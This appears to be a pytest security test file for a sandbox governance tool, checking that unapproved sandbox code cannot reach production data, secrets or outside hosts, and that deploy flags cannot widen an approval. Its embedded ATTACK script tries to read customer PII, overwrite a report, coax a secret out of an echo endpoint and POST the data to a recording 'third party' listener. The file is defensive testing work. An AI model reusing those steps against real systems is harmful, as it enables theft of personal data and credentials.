"""The sandbox environment holds: code nobody approved, deployed with --env sandbox,
never reads, changes or sends production data, never gets a production secret,
never takes a production deployment's name; and no deploy-time flag widens what
an approval covers.

Each attack runs for real: a never-approved artifact in a real sandbox (both
drivers), a real TLS upstream that records every header it is sent, a real
"third party" listener that records every byte, real bucket files.
"""

from __future__ import annotations

import json
import os
import ssl
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from proctor.governance import NotApproved, ProductionName
from proctor.lifecycle import RunRefused, Supervisor
from tests.conftest import PROCTOR
from tests.e2e.conftest_gov import Gov, build_gov
from tests.integration.test_broker_proxy import UpstreamCA
from tests.sandbox_conftest_helpers import BACKENDS, any_backend, working

WORKING = working()
REAL_SECRET = "real-" + os.urandom(12).hex()
TEST_SECRET = "test-" + os.urandom(12).hex()
PII = b"id,email\n1,alice.private@example.com\n2,bob.private@example.com\n"
REPORT = b"# the production report\n"


class _Recorder(BaseHTTPRequestHandler):
    """Answers 200 to anything and keeps what it was sent; ``/echo`` sends the
    request's Authorization header back in the body, as a debugging endpoint would."""

    protocol_version = "HTTP/1.1"
    seen: list[bytes]

    def log_message(self, *args: Any) -> None:
        pass

    def _any(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        type(self).seen.append(bytes(self.headers) + body)
        answer = b"ok"
        if self.path == "/echo":
            answer = ("you sent: " + self.headers.get("Authorization", "")).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    do_GET = do_POST = _any


def _server(handler: type[_Recorder], tls: ssl.SSLContext | None) -> ThreadingHTTPServer:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    if tls is not None:
        server.socket = tls.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def upstreams(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    d = tmp_path_factory.mktemp("upstreams")
    ca = UpstreamCA.make()
    (d / "ca.pem").write_bytes(ca.pem())
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(ca.issue(["localhost", "127.0.0.1"], d / "leaf.pem"))
    api = type("Api", (_Recorder,), {"seen": []})
    third = type("Third", (_Recorder,), {"seen": []})
    servers = [_server(api, tls), _server(third, None)]
    yield {
        "api_port": servers[0].server_address[1],
        "third_port": servers[1].server_address[1],
        "ca": d / "ca.pem",
        "api": api,
        "third": third,
    }
    for s in servers:
        s.shutdown()


@pytest.fixture
def gov(tmp_path: Path) -> Iterator[Gov]:
    g = build_gov(tmp_path)
    yield g
    g.rt.close()


ATTACK = r"""
import json, os, urllib.request, urllib.error, proctor_guest
API, THIRD = os.environ["API"], os.environ["THIRD"]
res = {}
try:
    res["read_pii"] = proctor_guest.read("reports", "customers.csv").decode()
except proctor_guest.GuestError as e:
    res["read_pii"] = "refused:" + e.code
try:
    res["overwrite"] = proctor_guest.write("reports", "churn.md", b"PWNED")["bytes"]
except proctor_guest.GuestError as e:
    res["overwrite"] = "refused:" + e.code
req = urllib.request.Request(f"https://{API}/v1/data",
                             headers={"Authorization": "Bearer proctor-secret:crm_token"})
try:
    with urllib.request.urlopen(req, timeout=10) as r:
        res["api"] = r.status
except urllib.error.HTTPError as e:
    res["api"] = e.code
except urllib.error.URLError as e:
    res["api"] = "failed: " + str(e.reason)[:60]
def get(url, headers):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10) as r:
            return f"{r.status} {r.read().decode(errors='replace')}"
    except urllib.error.HTTPError as e:
        return e.code
    except Exception as e:  # a cut connection, a failed tunnel: what the guest saw
        return "failed: " + str(e)[:80]
placeholder = "Bearer proctor-secret:crm_token"
res["echo"] = get(f"https://{API}/echo", {"Authorization": placeholder})
res["elsewhere"] = get(f"https://{API}/v1/data", {"X-Request-Id": placeholder})
body = res["read_pii"].encode() if not res["read_pii"].startswith("refused") else b"rows"
try:
    with urllib.request.urlopen(urllib.request.Request(f"http://{THIRD}/upload", data=body,
                                                       method="POST"), timeout=10) as r:
        res["send"] = r.status
except urllib.error.HTTPError as e:
    res["send"] = e.code
print(json.dumps(res), flush=True)
"""


def _attack_artifact(gov: Gov, ports: dict[str, Any]) -> str:
    api, third = f"localhost:{ports['api_port']}", f"127.0.0.1:{ports['third_port']}"
    art = gov.artifact_dir(
        "attack",
        ATTACK,
        f"""
        [egress]
        hosts = ["{api}", "{third}"]
        [secrets]
        names = ["crm_token"]
        [buckets]
        reports = "read-write"
        [limits]
        timeout = "60s"
        """,
    )
    return gov.submit("acme", art)


def _production_tenant(gov: Gov, ports: dict[str, Any]) -> None:
    rt, op = gov.rt, gov.op
    api, third = f"localhost:{ports['api_port']}", f"127.0.0.1:{ports['third_port']}"
    rt.resources.set_secret("acme", "crm_token", REAL_SECRET, [api], op)
    rt.allow_egress_range("acme", "127.0.0.1/32", op)
    rt.subprocessors.add("acme", "partners", purpose="enrichment", location="EU",
                         hosts=[api, third], actor=op)  # fmt: skip
    prod = rt.resources.bucket_dir("acme")
    (prod / "reports" / "customers.csv").write_bytes(PII)
    (prod / "reports" / "churn.md").write_bytes(REPORT)


def _run(gov: Gov, ports: dict[str, Any], name: str, backend: str) -> tuple[Any, dict[str, Any]]:
    out: list[bytes] = []
    with gov.rt.make_broker(upstream_cafile=str(ports["ca"])) as broker:
        rec = Supervisor(gov.rt, broker, backend).start(
            "acme", name, gov.principal("dev").actor, on_stdout=out.append,
            env={"API": f"localhost:{ports['api_port']}",
                 "THIRD": f"127.0.0.1:{ports['third_port']}"},
        )  # fmt: skip
    text = b"".join(out).decode()
    assert text.strip(), (rec, (gov.home / "runs" / rec.id / "stderr.log").read_text())
    return rec, json.loads(text.strip().splitlines()[-1])


@pytest.mark.sandbox
@pytest.mark.parametrize("backend", BACKENDS)
def test_unapproved_sandbox_code_reaches_no_production_data_secret_or_egress(
    gov: Gov, upstreams: dict[str, Any], backend: str
) -> None:
    _production_tenant(gov, upstreams)
    upstreams["api"].seen.clear()
    upstreams["third"].seen.clear()
    digest = _attack_artifact(gov, upstreams)
    rt = gov.rt
    rt.deployments.deploy("acme", rt.artifacts.get("acme", digest), "attack",
                          environment="sandbox", instruction="try it", actor=gov.op)  # fmt: skip
    rec, res = _run(gov, upstreams, "attack", backend)

    assert rec.status == "succeeded", rec
    # Production objects are not there to read: the sandbox has its own tree.
    assert res["read_pii"] == "refused:not_found", res
    # The write landed in the sandbox tree; the production report is untouched.
    assert res["overwrite"] == 5
    prod = rt.resources.bucket_dir("acme") / "reports"
    assert (prod / "churn.md").read_bytes() == REPORT
    assert (rt.resources.sandbox_bucket_dir("acme") / "reports" / "churn.md").read_bytes() == (
        b"PWNED"
    )
    # No host is marked for sandbox use: both calls are refused by the sandbox forbid,
    # and neither upstream saw a byte, let alone the real secret.
    # urllib reports a refused CONNECT as a failed tunnel.
    assert res["api"] == 403 or res["api"].startswith(
        "failed: Tunnel connection failed: 403 Forbidden (proctor refusal"
    ), res
    assert res["send"] == 403, res
    assert upstreams["api"].seen == [] and upstreams["third"].seen == []
    events = [json.loads(e) for e in rt.ledger.entries("acme")]
    http = [e for e in events if e["action"] == "http.request" and e["run"] == rec.id]
    assert http and all(e["policies"] == ["tenant:sandbox-egress"] for e in http), http
    assert all(e["decision"] == "deny" for e in http)
    raw = b"\n".join(rt.ledger.entries("acme"))
    assert REAL_SECRET.encode() not in raw and b"alice.private" not in raw


@pytest.mark.sandbox
def test_sandbox_runs_get_only_the_test_twin_and_the_hosts_marked_for_sandbox(
    gov: Gov, upstreams: dict[str, Any]
) -> None:
    _production_tenant(gov, upstreams)
    upstreams["api"].seen.clear()
    upstreams["third"].seen.clear()
    rt, op = gov.rt, gov.op
    api = f"localhost:{upstreams['api_port']}"
    rt.resources.set_secret("acme", "crm_token_test", TEST_SECRET, [api], op, twin_of="crm_token")
    rt.resources.allow_sandbox_host("acme", api, op)
    digest = _attack_artifact(gov, upstreams)
    rt.deployments.deploy("acme", rt.artifacts.get("acme", digest), "attack",
                          environment="sandbox", instruction="try it", actor=op)  # fmt: skip
    _, res = _run(gov, upstreams, "attack", any_backend()[0])

    assert res["api"] == 200, res
    # The twin's value never comes back: an upstream that echoes the header is cut
    # before the value, and the placeholder outside its bound header is refused.
    assert TEST_SECRET not in json.dumps(res) and res["echo"] != 200, res
    assert res["elsewhere"] == 403, res
    sent = b"".join(upstreams["api"].seen)
    assert f"Bearer {TEST_SECRET}".encode() in sent, "the test twin was injected"
    assert REAL_SECRET.encode() not in sent, "the real secret never reaches a sandbox call"
    # The third party is a production subprocessor, not marked for sandbox use.
    assert res["send"] == 403 and upstreams["third"].seen == []
    raw = b"\n".join(rt.ledger.entries("acme"))
    assert TEST_SECRET.encode() not in raw and REAL_SECRET.encode() not in raw


def test_a_sandbox_deployment_never_takes_a_production_name(gov: Gov) -> None:
    rt = gov.rt
    approved = gov.submit("acme", gov.artifact_dir("good", "print('approved')"))
    rt.approvals.grant("acme", approved, gov.principal("alice"))
    rt.deployments.deploy("acme", rt.artifacts.get("acme", approved), "churn",
                          environment="production", instruction="prod", actor=gov.op)  # fmt: skip
    evil = gov.submit("acme", gov.artifact_dir("evil", "print('not approved')"))
    before = rt.ledger.head("acme").size
    with pytest.raises(ProductionName, match="never takes or replaces a production name"):
        rt.deployments.deploy("acme", rt.artifacts.get("acme", evil), "churn",
                              environment="sandbox", instruction="x", actor=gov.op)  # fmt: skip
    assert rt.ledger.head("acme").size == before, "a refused deploy changes nothing"
    current = rt.deployments.get("acme", "churn")
    assert (current.digest, current.environment, current.version) == (approved, "production", 1)
    # Through the CLI, as the developer would try it.
    proc = _cli(gov, "deploy", evil, "-t", "acme", "--name", "churn", "--env", "sandbox",
                "--instruction", "x", who="dev")  # fmt: skip
    assert proc.returncode == 5 and "production name" in proc.stderr, proc.stderr
    # Promotion the other way keeps working: a sandbox name may become production.
    rt.deployments.deploy("acme", rt.artifacts.get("acme", evil), "trial",
                          environment="sandbox", instruction="x", actor=gov.op)  # fmt: skip
    rt.approvals.grant("acme", evil, gov.principal("alice"))
    promoted = rt.deployments.deploy("acme", rt.artifacts.get("acme", evil), "trial",
                                     environment="production", instruction="x", actor=gov.op)  # fmt: skip
    assert promoted.environment == "production" and promoted.version == 2


def test_a_deploy_flag_cannot_widen_the_approved_lifecycle(gov: Gov) -> None:
    rt = gov.rt
    digest = gov.submit(
        "acme", gov.artifact_dir("job", "print('once')", '[lifecycle]\nmode = "job"\n')
    )
    rt.approvals.grant("acme", digest, gov.principal("alice"))
    art = rt.artifacts.get("acme", digest)
    before = rt.ledger.head("acme").size
    with pytest.raises(NotApproved, match='manifest says mode = "job"'):
        rt.deployments.deploy("acme", art, "churn", environment="production", mode="schedule",
                              every_seconds=20, instruction="x", actor=gov.op)  # fmt: skip
    with pytest.raises(NotApproved):
        rt.deployments.deploy("acme", art, "churn", environment="production", mode="service",
                              instruction="x", actor=gov.op)  # fmt: skip
    assert rt.ledger.head("acme").size == before
    proc = _cli(gov, "deploy", digest, "-t", "acme", "--name", "churn", "--env", "production",
                "--mode", "schedule", "--every", "20s", "--instruction", "x", who="dev")  # fmt: skip
    assert proc.returncode == 5 and "lifecycle is part of what is approved" in proc.stderr
    assert "submit the new digest for approval" in proc.stderr
    # The manifest's own lifecycle needs no flag at all.
    dep = rt.deployments.deploy("acme", art, "churn", environment="production",
                                instruction="x", actor=gov.op)  # fmt: skip
    assert (dep.mode, dep.every_seconds) == ("job", None)
    sched = gov.submit("acme", gov.artifact_dir(
        "sched", "print('tick')", '[lifecycle]\nmode = "schedule"\nevery = "1h"\n'))  # fmt: skip
    rt.approvals.grant("acme", sched, gov.principal("alice"))
    sched_art = rt.artifacts.get("acme", sched)
    with pytest.raises(NotApproved, match="every = 3600s"):
        rt.deployments.deploy("acme", sched_art, "tick", environment="production",
                              every_seconds=1, instruction="x", actor=gov.op)  # fmt: skip
    dep = rt.deployments.deploy("acme", sched_art, "tick", environment="production",
                                mode="schedule", instruction="x", actor=gov.op)  # fmt: skip
    assert (dep.mode, dep.every_seconds) == ("schedule", 3600)


def test_a_stored_deployment_widened_by_hand_does_not_run(gov: Gov) -> None:
    rt = gov.rt
    digest = gov.submit("acme", gov.artifact_dir("job", "print('once')"))
    rt.approvals.grant("acme", digest, gov.principal("alice"))
    rt.deployments.deploy("acme", rt.artifacts.get("acme", digest), "churn",
                          environment="production", instruction="x", actor=gov.op)  # fmt: skip
    with rt.store.write() as conn:
        conn.execute("UPDATE deployments SET mode = 'schedule', every_seconds = 20"
                     " WHERE tenant = 'acme' AND name = 'churn'")  # fmt: skip
    with rt.make_broker() as broker, pytest.raises(RunRefused, match="lifecycle"):
        Supervisor(rt, broker, WORKING[0] if WORKING else None).start(
            "acme", "churn", gov.principal("dev").actor
        )
    last = json.loads(list(rt.ledger.entries("acme"))[-1])
    assert (last["action"], last["decision"]) == ("run.start", "deny")


def _cli(gov: Gov, *args: str, who: str) -> Any:
    import subprocess

    env = {**os.environ, "PROCTOR_HOME": str(gov.home), "PROCTOR_TOKEN": gov.token(who)}
    env.pop("PROCTOR_SERVER", None)
    return subprocess.run([PROCTOR, *args], capture_output=True, text=True, env=env,
                          timeout=60, check=False)  # fmt: skip
